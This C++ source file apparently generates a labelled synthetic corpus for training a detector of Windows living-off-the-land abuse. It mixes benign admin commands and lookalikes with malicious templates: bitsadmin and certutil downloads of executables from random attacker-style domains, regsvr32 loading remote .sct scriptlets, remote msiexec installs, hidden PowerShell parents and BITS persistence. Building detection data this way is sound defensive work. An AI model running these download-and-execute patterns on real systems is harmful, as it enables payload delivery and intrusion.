#include "lolal/synth_corpus.hpp"

#include <algorithm>
#include <cmath>
#include <functional>
#include <numeric>
#include <utility>

#include "json.hpp"
#include "lolal/rng.hpp"

namespace lolal {
namespace {

using Command = std::pair<std::string, std::string>;

const std::vector<std::string> kVendors = {"microsoft", "google", "adobe", "mozilla", "jetbrains",
                                           "oracle",    "nvidia", "intel", "zoom",    "dropbox"};
const std::vector<std::string> kUsers = {"alice", "bob", "jsmith", "admin", "mlopez", "kchen", "svc_backup", "dev01"};
const std::vector<std::string> kBadTlds = {"com", "net", "top", "xyz", "info", "biz"};
const std::vector<std::string> kProjects = {"webapi", "billing", "inventory", "portal", "reporting", "agentcore",
                                            "datasync", "toolkit"};
const std::vector<std::string> kBaitNames = {"update", "invoice", "setup", "svchost32", "winlog", "report",
                                             "chrome_update", "doc"};
const std::vector<std::string> kTempDirs = {"%temp%", "c:\\users\\public", "c:\\programdata", "%appdata%",
                                            "c:\\windows\\temp"};

// Slot fillers shared by all templates.
class Slots {
 public:
  Slots(Rng& rng, double rare_rate) : rng_(rng), rare_rate_(rare_rate) {}

  const std::string& pick(const std::vector<std::string>& words) { return rng_.pick(words); }
  std::size_t number(std::size_t lo, std::size_t hi) { return lo + rng_.index(hi - lo + 1); }
  bool chance(double p) { return rng_.bernoulli(p); }

  std::string letters(std::size_t lo, std::size_t hi) {
    static const std::string kAlpha = "abcdefghijklmnopqrstuvwxyz";
    std::string out;
    const std::size_t n = number(lo, hi);
    for (std::size_t i = 0; i < n; ++i) out.push_back(kAlpha[rng_.index(kAlpha.size())]);
    return out;
  }

  std::string alnum(std::size_t n) {
    static const std::string kChars = "abcdefghijklmnopqrstuvwxyz0123456789";
    std::string out;
    for (std::size_t i = 0; i < n; ++i) out.push_back(kChars[rng_.index(kChars.size())]);
    return out;
  }

  std::string hex(std::size_t n) {
    static const std::string kHex = "0123456789abcdef";
    std::string out;
    for (std::size_t i = 0; i < n; ++i) out.push_back(kHex[rng_.index(kHex.size())]);
    return out;
  }

  // A recurring word, or with the configured rate a one-off random name.
  std::string name(const std::vector<std::string>& common) {
    if (chance(rare_rate_)) return alnum(number(8, 12));
    return pick(common);
  }

  std::string ip() {
    return std::to_string(number(11, 223)) + "." + std::to_string(number(0, 255)) + "." +
           std::to_string(number(0, 255)) + "." + std::to_string(number(1, 254));
  }
  std::string bad_domain() { return letters(5, 9) + "." + pick(kBadTlds); }
  std::string guid() {
    return "{" + hex(8) + "-" + hex(4) + "-" + hex(4) + "-" + hex(4) + "-" + hex(12) + "}";
  }
  std::string temp_dir() { return pick(kTempDirs); }
  std::string user() { return pick(kUsers); }
  std::string vendor() { return pick(kVendors); }
  std::string bait() { return name(kBaitNames); }
  std::string project() { return pick(kProjects); }
  std::string bad_url(const std::string& ext) { return "http://" + bad_domain() + "/" + bait() + "." + ext; }

 private:
  Rng& rng_;
  double rare_rate_;
};

enum class Role { Common, Rare, Lookalike };

struct Family {
  std::string name;
  Label label;
  Lolbin lolbin;
  Role role;
  double weight;
  std::function<Command(Slots&)> make;
};

std::vector<Family> build_families() {
  using L = Label;
  using B = Lolbin;
  std::vector<Family> f;

  // Malicious bitsadmin: staged downloads and job chains.
  f.push_back({"transfer", L::BitsadminLolbin, B::Bitsadmin, Role::Common, 0.45, [](Slots& s) {
                 const std::vector<std::string> parents = {"cmd.exe /c", "powershell.exe -nop -w hidden -c",
                                                           "wscript.exe " + s.temp_dir() + "\\" + s.bait() + ".vbs"};
                 const std::string file = s.bait();
                 return Command{s.pick(parents), "bitsadmin.exe /transfer " + s.name({"getitman", "job", "upd"}) +
                                                     " /download /priority high " + s.bad_url("exe") + " " +
                                                     s.temp_dir() + "\\" + file + ".exe"};
               }});
  f.push_back({"job-chain", L::BitsadminLolbin, B::Bitsadmin, Role::Common, 0.30, [](Slots& s) {
                 const std::string n = std::to_string(s.number(1, 9));
                 const std::string file = s.bait();
                 return Command{"cmd.exe /c", "bitsadmin /create " + n + " bitsadmin /addfile " + n + " https://" +
                                                  s.bad_domain() + "/" + file + ".exe c:\\" + file +
                                                  ".exe bitsadmin /resume " + n + " bitsadmin /complete " + n};
               }});
  f.push_back({"attackiq", L::BitsadminLolbin, B::Bitsadmin, Role::Common, 0.15, [](Slots& s) {
                 const std::string file = s.bait();
                 return Command{"c:\\program files\\attackiq\\agent\\aiq.exe -run " + std::to_string(s.number(100, 999)),
                                "bitsadmin.exe /transfer attackiq_" + std::to_string(s.number(1, 99)) +
                                    " /download http://" + s.ip() + "/payloads/" + file + ".exe %temp%\\" + file +
                                    ".exe"};
               }});
  f.push_back({"notify-cmdline", L::BitsadminLolbin, B::Bitsadmin, Role::Rare, 0.10, [](Slots& s) {
                 return Command{"powershell.exe -noexit -enc " + s.alnum(24),
                                "bitsadmin /setnotifycmdline " + s.name({"persist", "svcjob"}) + " %appdata%\\" +
                                    s.bait() + ".exe null"};
               }});

  // Malicious certutil: download, decode and encode tricks.
  f.push_back({"urlcache", L::CertutilLolbin, B::Certutil, Role::Common, 0.40, [](Slots& s) {
                 const std::vector<std::string> parents = {"cmd.exe /c", "powershell.exe -c"};
                 const std::vector<std::string> exts = {"exe", "dat", "txt"};
                 const std::string ext = s.pick(exts);
                 return Command{s.pick(parents), "certutil.exe -urlcache -split -f " + s.bad_url(ext) + " " +
                                                     s.temp_dir() + "\\" + s.bait() + "." + ext};
               }});
  f.push_back({"decode", L::CertutilLolbin, B::Certutil, Role::Common, 0.30, [](Slots& s) {
                 return Command{"cmd.exe /c",
                                "certutil -decode " + s.name({"b64file", "enc", "data"}) + " " + s.bait() + ".exe"};
               }});
  f.push_back({"aptsimulator", L::CertutilLolbin, B::Certutil, Role::Common, 0.15, [](Slots& s) {
                 const std::string file = s.name({"mimi", "toolkit", "loader"});
                 return Command{"cmd.exe /c c:\\aptsimulator\\test-sets\\defense-evasion\\" + file + ".bat",
                                "certutil.exe -decode c:\\aptsimulator\\toolset\\" + file + ".txt %temp%\\" + file +
                                    ".dat"};
               }});
  f.push_back({"encode", L::CertutilLolbin, B::Certutil, Role::Common, 0.10, [](Slots& s) {
                 return Command{"cmd.exe /c", "certutil -encode %temp%\\" + s.bait() + ".dat c:\\users\\public\\" +
                                                  s.bait() + ".txt"};
               }});
  f.push_back({"verifyctl", L::CertutilLolbin, B::Certutil, Role::Rare, 0.05, [](Slots& s) {
                 return Command{"mshta.exe vbscript:execute(" + s.alnum(6) + ")",
                                "certutil.exe -verifyctl -f -split " + s.bad_url("exe")};
               }});

  // Malicious msbuild: inline task projects.
  f.push_back({"inline-xml", L::MsbuildLolbin, B::Msbuild, Role::Common, 0.60, [](Slots& s) {
                 return Command{"cmd.exe /c", "c:\\windows\\microsoft.net\\framework\\v4.0.30319\\msbuild.exe " +
                                                  s.temp_dir() + "\\" + s.name({"pshell", "payload", "build"}) +
                                                  ".xml"};
               }});
  f.push_back({"share-project", L::MsbuildLolbin, B::Msbuild, Role::Rare, 0.40, [](Slots& s) {
                 return Command{"wmiprvse.exe -embedding",
                                "msbuild.exe \\\\ipv4pii\\share\\" + s.bait() + ".csproj /noconsolelogger"};
               }});

  // Malicious msiexec: remote installs.
  f.push_back({"remote-image", L::MsiexecLolbin, B::Msiexec, Role::Common, 0.55, [](Slots& s) {
                 return Command{"cmd.exe /c", "msiexec /q /i http://" + s.ip() + "/" + s.name({"cmd", "img"}) + ".jpeg"};
               }});
  f.push_back({"payloads", L::MsiexecLolbin, B::Msiexec, Role::Common, 0.30, [](Slots& s) {
                 return Command{"powershell.exe -w hidden -c",
                                "msiexec.exe /quiet /i https://" + s.bad_domain() + "/payloads/" + s.bait() + ".msi"};
               }});
  f.push_back({"dll-register", L::MsiexecLolbin, B::Msiexec, Role::Rare, 0.15, [](Slots& s) {
                 return Command{"rundll32.exe shell32.dll,shellexec_rundll", "msiexec.exe /y %temp%\\" + s.bait() + ".dll"};
               }});

  // Malicious regsvr32: scriptlet execution.
  f.push_back({"remote-sct", L::Regsvr32Lolbin, B::Regsvr32, Role::Common, 0.50, [](Slots& s) {
                 return Command{"cmd.exe /c", "regsvr32.exe /s /u /i:http://" + s.letters(5, 9) + ".ru/" + s.bait() +
                                                  ".sct scrobj.dll"};
               }});
  f.push_back({"local-sct", L::Regsvr32Lolbin, B::Regsvr32, Role::Common, 0.30, [](Slots& s) {
                 return Command{"powershell.exe -noexit -c", "regsvr32 /s /n /u /i:" + s.name({"file", "x"}) +
                                                                 ".sct scrobj.dll"};
               }});
  f.push_back({"xml-dropper", L::Regsvr32Lolbin, B::Regsvr32, Role::Rare, 0.20, [](Slots& s) {
                 return Command{"mshta.exe c:\\users\\" + s.user() + "\\appdata\\local\\temp\\" + s.bait() + ".xml",
                                "regsvr32.exe /s /i:%temp%\\" + s.bait() + ".sct scrobj.dll"};
               }});

  // Benign administration and developer activity, per binary.
  f.push_back({"bits-update", L::Benign, B::Bitsadmin, Role::Common, 0.10, [](Slots& s) {
                 const std::string file = s.alnum(6);
                 return Command{"c:\\windows\\system32\\svchost.exe -k netsvcs -p",
                                "bitsadmin.exe /transfer downloadjob /download /priority normal https://download." +
                                    s.vendor() + ".com/ie/plugin/" + file + ".cab c:\\windows\\temp\\" + file + ".cab"};
               }});
  f.push_back({"bits-list", L::Benign, B::Bitsadmin, Role::Common, 0.06, [](Slots&) {
                 return Command{"cmd.exe /c c:\\scripts\\inventory.bat", "bitsadmin /list /allusers /verbose"};
               }});
  f.push_back({"bits-info", L::Benign, B::Bitsadmin, Role::Common, 0.06, [](Slots& s) {
                 return Command{"c:\\program files\\" + s.vendor() + "\\update\\updater.exe",
                                "bitsadmin /info " + s.guid() + " /verbose"};
               }});
  f.push_back({"cert-addstore", L::Benign, B::Certutil, Role::Common, 0.10, [](Slots& s) {
                 const std::string v = s.vendor();
                 return Command{"c:\\windows\\system32\\msiexec.exe /v",
                                "certutil.exe -addstore -f root \"c:\\program files\\" + v + "\\install\\" + v +
                                    "root.cer\""};
               }});
  f.push_back({"cert-store", L::Benign, B::Certutil, Role::Common, 0.06, [](Slots&) {
                 return Command{"cmd.exe /c", "certutil -store my"};
               }});
  f.push_back({"cert-hash", L::Benign, B::Certutil, Role::Common, 0.08, [](Slots& s) {
                 return Command{"powershell.exe -c",
                                "certutil -hashfile c:\\users\\" + s.user() + "\\downloads\\" + s.project() +
                                    ".msi sha256"};
               }});
  f.push_back({"build-solution", L::Benign, B::Msbuild, Role::Common, 0.10, [](Slots& s) {
                 const std::string p = s.project();
                 return Command{"c:\\program files\\jetbrains\\rider\\bin\\rider64.exe",
                                "msbuild.exe c:\\src\\" + p + "\\" + p + ".sln /p:configuration=release /m /t:build"};
               }});
  f.push_back({"build-references", L::Benign, B::Msbuild, Role::Common, 0.06, [](Slots& s) {
                 return Command{"c:\\program files\\jetbrains\\teamcity\\buildagent\\agent.exe",
                                "msbuild.exe " + s.project() +
                                    ".csproj /t:build /p:platform=x64 "
                                    "/reference:system.runtime.serialization.dll;system.data.datasetextensions.dll;"
                                    "system.web.applicationservices.dll"};
               }});
  f.push_back({"build-release", L::Benign, B::Msbuild, Role::Common, 0.06, [](Slots& s) {
                 return Command{"cmd.exe /c build.cmd",
                                "msbuild.exe c:\\builds\\releases\\" + s.project() + "\\build.proj /v:minimal"};
               }});
  f.push_back({"msi-install", L::Benign, B::Msiexec, Role::Common, 0.08, [](Slots& s) {
                 return Command{"c:\\windows\\system32\\services.exe",
                                "msiexec.exe /i \"c:\\windows\\installer\\" + s.guid() +
                                    ".msi\" /qn allusers=1 reboot=reallysuppress"};
               }});
  f.push_back({"msi-uninstall", L::Benign, B::Msiexec, Role::Common, 0.04, [](Slots& s) {
                 return Command{"c:\\program files\\" + s.vendor() + "\\uninstall.exe", "msiexec /x " + s.guid() + " /qn"};
               }});
  f.push_back({"msi-service", L::Benign, B::Msiexec, Role::Common, 0.03, [](Slots&) {
                 return Command{"c:\\windows\\system32\\services.exe", "c:\\windows\\system32\\msiexec.exe /v"};
               }});
  f.push_back({"msi-amd64", L::Benign, B::Msiexec, Role::Common, 0.04, [](Slots& s) {
                 return Command{"explorer.exe", "msiexec.exe /i c:\\users\\" + s.user() + "\\downloads\\" +
                                                    s.project() + "-amd64.msi /passive cpu=x64"};
               }});
  f.push_back({"reg-component", L::Benign, B::Regsvr32, Role::Common, 0.07, [](Slots& s) {
                 const std::string v = s.vendor();
                 return Command{"c:\\windows\\system32\\msiexec.exe /v",
                                "regsvr32.exe /s \"c:\\program files\\" + v + "\\" + v + "shell.dll\""};
               }});
  f.push_back({"reg-unregister", L::Benign, B::Regsvr32, Role::Common, 0.04, [](Slots& s) {
                 return Command{"cmd.exe /c", "regsvr32 /u /s c:\\windows\\system32\\" + s.letters(4, 7) + ".ocx"};
               }});

  // Benign commands shaped like attacks; they differ mostly in vendor
  // domains and install paths.
  f.push_back({"bits-vendor-download", L::Benign, B::Bitsadmin, Role::Lookalike, 0.25, [](Slots& s) {
                 const std::string v = s.vendor();
                 return Command{"cmd.exe /c", "bitsadmin /transfer " + v + "update /download /priority high https://releases." +
                                                  v + ".com/" + s.project() + "/setup.exe c:\\users\\" + s.user() +
                                                  "\\downloads\\setup.exe"};
               }});
  f.push_back({"cert-crl-fetch", L::Benign, B::Certutil, Role::Lookalike, 0.25, [](Slots& s) {
                 const std::string file = s.alnum(6);
                 return Command{"cmd.exe /c", "certutil.exe -urlcache -split -f http://crl." + s.vendor() +
                                                  ".com/pki/crl/products/" + file + ".crl c:\\windows\\temp\\" + file +
                                                  ".crl"};
               }});
  f.push_back({"cert-decode-build", L::Benign, B::Certutil, Role::Lookalike, 0.15, [](Slots& s) {
                 const std::string p = s.project();
                 return Command{"cmd.exe /c build.cmd",
                                "certutil -decode c:\\build\\certs\\" + p + ".b64 c:\\build\\certs\\" + p + ".cer"};
               }});
  f.push_back({"build-xml-restore", L::Benign, B::Msbuild, Role::Lookalike, 0.15, [](Slots& s) {
                 return Command{"cmd.exe /c", "msbuild.exe c:\\src\\" + s.project() + "\\tasks.xml /t:restore"};
               }});
  f.push_back({"msi-vendor-quiet", L::Benign, B::Msiexec, Role::Lookalike, 0.10, [](Slots& s) {
                 const std::string p = s.project();
                 return Command{"cmd.exe /c deploy.cmd",
                                "msiexec /q /i https://releases." + s.vendor() + ".com/" + p + "/" + p + "-amd64.msi"};
               }});
  f.push_back({"reg-plugin", L::Benign, B::Regsvr32, Role::Lookalike, 0.10, [](Slots& s) {
                 return Command{"cmd.exe /c", "regsvr32.exe /s /i \"c:\\program files\\" + s.vendor() + "\\plugin\\" +
                                                  s.project() + ".dll\""};
               }});
  return f;
}

const std::vector<Family>& families() {
  static const std::vector<Family> kFamilies = build_families();
  return kFamilies;
}

// Largest-remainder split of `total` by weight; earlier entries win ties.
std::vector<std::size_t> apportion(std::size_t total, const std::vector<double>& weights) {
  const double sum = std::accumulate(weights.begin(), weights.end(), 0.0);
  std::vector<std::size_t> out(weights.size(), 0);
  if (weights.empty() || sum <= 0) return out;
  std::vector<std::pair<double, std::size_t>> remainders;
  std::size_t used = 0;
  for (std::size_t i = 0; i < weights.size(); ++i) {
    const double exact = static_cast<double>(total) * weights[i] / sum;
    out[i] = static_cast<std::size_t>(std::floor(exact));
    used += out[i];
    remainders.emplace_back(exact - std::floor(exact), i);
  }
  std::stable_sort(remainders.begin(), remainders.end(),
                   [](const auto& a, const auto& b) { return a.first > b.first; });
  for (std::size_t k = 0; used < total; ++k, ++used) ++out[remainders[k % remainders.size()].second];
  return out;
}

// Family sizes for one class total.
std::vector<std::pair<const Family*, std::size_t>> plan_class(Label label, std::size_t total, double lookalike_rate) {
  std::vector<const Family*> regular, lookalike;
  for (const auto& f : families()) {
    if (f.label != label) continue;
    (f.role == Role::Lookalike ? lookalike : regular).push_back(&f);
  }
  std::vector<std::pair<const Family*, std::size_t>> plan;
  auto add = [&](const std::vector<const Family*>& group, std::size_t n) {
    std::vector<double> weights;
    for (const auto* f : group) weights.push_back(f->weight);
    auto sizes = apportion(n, weights);
    for (std::size_t i = 0; i < group.size(); ++i) plan.emplace_back(group[i], sizes[i]);
  };
  const std::size_t n_lookalike =
      lookalike.empty() ? 0 : static_cast<std::size_t>(std::llround(static_cast<double>(total) * lookalike_rate));
  add(regular, total - n_lookalike);
  add(lookalike, n_lookalike);
  return plan;
}

std::vector<RawSample> generate_set(const std::map<Label, std::size_t>& counts, const CorpusSpec& spec, Rng& rng,
                                    const std::string& prefix) {
  Slots slots(rng, spec.rare_token_rate);
  std::vector<RawSample> out;
  for (const auto& [label, total] : counts) {
    for (const auto& [family, n] : plan_class(label, total, spec.lookalike_rate)) {
      for (std::size_t i = 0; i < n; ++i) {
        auto [parent, child] = family->make(slots);
        RawSample s;
        s.parent = std::move(parent);
        s.child = std::move(child);
        s.lolbin = family->lolbin;
        s.label = label;
        out.push_back(std::move(s));
      }
    }
  }
  rng.shuffle(out);
  const int width = out.size() < 100000 ? 5 : 7;
  for (std::size_t i = 0; i < out.size(); ++i) {
    std::string digits = std::to_string(i + 1);
    out[i].id = prefix + std::string(static_cast<std::size_t>(width) - std::min<std::size_t>(digits.size(), width), '0') +
                digits;
  }
  return out;
}

}  // namespace

std::string CorpusSpec::to_json() const {
  nlohmann::ordered_json doc;
  nlohmann::ordered_json c = nlohmann::ordered_json::object();
  for (const auto& [label, n] : counts) c[std::string(lolal::to_string(label))] = n;
  doc["counts"] = std::move(c);
  doc["scale"] = scale;
  doc["unlabeled_size"] = unlabeled_size;
  doc["rare_token_rate"] = rare_token_rate;
  doc["lookalike_rate"] = lookalike_rate;
  doc["seed"] = seed;
  return doc.dump(2);
}

CorpusSpec CorpusSpec::from_json(std::string_view text) {
  const auto doc = nlohmann::json::parse(text);
  CorpusSpec spec;
  if (doc.contains("counts")) {
    spec.counts.clear();
    for (const auto& [name, n] : doc.at("counts").items()) {
      auto label = parse_label(name);
      if (!label) throw Error("unknown class in corpus spec: " + name);
      spec.counts[*label] = n.get<std::size_t>();
    }
  }
  spec.scale = doc.value("scale", spec.scale);
  spec.unlabeled_size = doc.value("unlabeled_size", spec.unlabeled_size);
  spec.rare_token_rate = doc.value("rare_token_rate", spec.rare_token_rate);
  spec.lookalike_rate = doc.value("lookalike_rate", spec.lookalike_rate);
  spec.seed = doc.value("seed", spec.seed);
  if (!(spec.scale > 0)) throw Error("corpus scale must be positive");
  if (spec.rare_token_rate < 0 || spec.rare_token_rate > 1) throw Error("rare_token_rate must be in [0, 1]");
  if (spec.lookalike_rate < 0 || spec.lookalike_rate > 1) throw Error("lookalike_rate must be in [0, 1]");
  return spec;
}

std::map<Label, std::size_t> scaled_counts(const CorpusSpec& spec) {
  std::map<Label, std::size_t> out;
  for (const auto& [label, n] : spec.counts) {
    if (n == 0) continue;
    out[label] = std::max<std::size_t>(1, static_cast<std::size_t>(std::llround(static_cast<double>(n) * spec.scale)));
  }
  return out;
}

Corpus generate_corpus(const CorpusSpec& spec) {
  Corpus corpus;
  Rng labeled_rng(derive_seed(spec.seed, 0));
  const auto counts = scaled_counts(spec);
  corpus.labeled = generate_set(counts, spec, labeled_rng, "L");

  if (spec.unlabeled_size > 0) {
    std::vector<double> weights;
    std::vector<Label> labels;
    for (const auto& [label, n] : counts) {
      labels.push_back(label);
      weights.push_back(static_cast<double>(n));
    }
    auto sizes = apportion(spec.unlabeled_size, weights);
    std::map<Label, std::size_t> pool_counts;
    for (std::size_t i = 0; i < labels.size(); ++i) {
      if (sizes[i] > 0) pool_counts[labels[i]] = sizes[i];
    }
    Rng pool_rng(derive_seed(spec.seed, 1));
    corpus.unlabeled = generate_set(pool_counts, spec, pool_rng, "U");
  }
  return corpus;
}

std::vector<std::string> template_families() {
  std::vector<std::string> out;
  for (const auto& f : families()) out.push_back(std::string(to_string(f.label)) + "/" + f.name);
  return out;
}

}  // namespace lolal
